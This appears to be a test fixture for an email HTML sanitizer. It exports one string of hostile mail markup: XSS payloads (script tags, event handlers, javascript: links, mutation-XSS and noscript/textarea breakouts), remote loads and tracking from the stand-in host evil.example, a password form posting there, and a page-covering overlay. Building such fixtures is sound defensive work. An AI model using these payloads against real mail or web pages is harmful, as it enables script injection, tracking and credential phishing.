/** What a mail may try in a reader's browser. Each part would run, load or cover something, or lead away. */
export const hostileMail = `
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="import" href="https://evil.example/b.html">
<link rel="prefetch" href="https://evil.example/c"><link rel="dns-prefetch" href="//evil.example">
<style>@import url(https://evil.example/d.css); body { background: url(https://evil.example/e) } * { position: fixed }</style>
<script>top.pwned = 'script'</script><script src="https://evil.example/f.js"></script>
<scr<script>ipt>top.pwned = 'nested'</scr</script>ipt>
<img src="https://evil.example/g.png" onerror="top.pwned = 'onerror'" onload="top.pwned = 'onload'">
<img src=x onerror=top.pwned='onerror'><img srcset="https://evil.example/h.png 1x" src="//evil.example/i.png">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5wd25lZD0xIi8+"><picture><source srcset="https://evil.example/j"><img></picture>
<a href="javascript:top.pwned='href'">one</a><a href=" java&#10;script:top.pwned='split'">two</a>
<a href="data:text/html,<script>top.pwned=1</script>">three</a><a href="vbscript:x">four</a><a href="/api/session" id="own">five</a>
<a href="https://evil.example/k" ping="https://evil.example/l" target="_top" onclick="top.pwned='click'">six</a>
<svg onload="top.pwned='svg'"><script>top.pwned='svg'</script><image href="https://evil.example/m"/><use href="https://evil.example/n#a"/>
<foreignObject><img src=x onerror="top.pwned='foreign'"></foreignObject><animate onbegin="top.pwned='animate'"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=top.pwned='mutation'>"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=top.pwned='noscript'>"></noscript>
<textarea><img title="</textarea><img src=x onerror=top.pwned='textarea'>"></textarea>
<form action="https://evil.example/o" method="post"><input name="password" type="password" autofocus onfocus="top.pwned='focus'"><button formaction="javascript:top.pwned=1">Sign in</button></form>
<iframe src="https://evil.example/p"></iframe><iframe srcdoc="<script>top.pwned='srcdoc'</script>"></iframe>
<object data="https://evil.example/q"></object><embed src="https://evil.example/r"><applet code="s"></applet>
<video src="https://evil.example/t" poster="https://evil.example/u" autoplay onerror="top.pwned='video'"></video><audio src="https://evil.example/v"></audio>
<table background="https://evil.example/w"><tr><td background="https://evil.example/x">cell</td></tr></table>
<div style="position:fixed;inset:0;z-index:9999;background:#fff url('https://evil.example/y')">cover</div>
<div style="background-image:image-set('https://evil.example/z' 1x);width:expression(top.pwned=1);-moz-binding:url(https://evil.example/1)">old</div>
<div style="list-style:url(https://evil.example/2);content:url(https://evil.example/3);cursor:url(https://evil.example/4),auto;color:rgb(200,0,0)" class="red">styled</div>
<details open ontoggle="top.pwned='toggle'"><summary>more</summary></details><marquee onstart="top.pwned='marquee'">m</marquee>
<body onload="top.pwned='body'" background="https://evil.example/5"><template><img src=x onerror="top.pwned='template'"></template>
<p id="end">The end of the mail</p>`
